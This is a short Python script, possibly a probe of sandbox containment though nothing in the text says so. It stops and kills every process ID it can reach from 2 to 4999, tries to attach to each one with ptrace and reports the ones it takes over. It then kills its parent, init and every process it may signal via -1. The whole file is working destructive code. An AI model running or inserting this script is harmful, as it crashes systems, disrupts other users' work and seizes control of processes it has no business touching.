"""Sends signals to all that it can see, and to all that it can guess."""

import ctypes
import os
import signal

libc = ctypes.CDLL(None)
for process in range(2, 5000):
    if process != os.getpid():
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(process, number)
            except OSError:
                pass
        if libc.ptrace(16, process, 0, 0) == 0:
            print("GOT hold of", process, flush=True)
for process in (os.getppid(), 1, 0, -os.getpgid(1), -1):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass
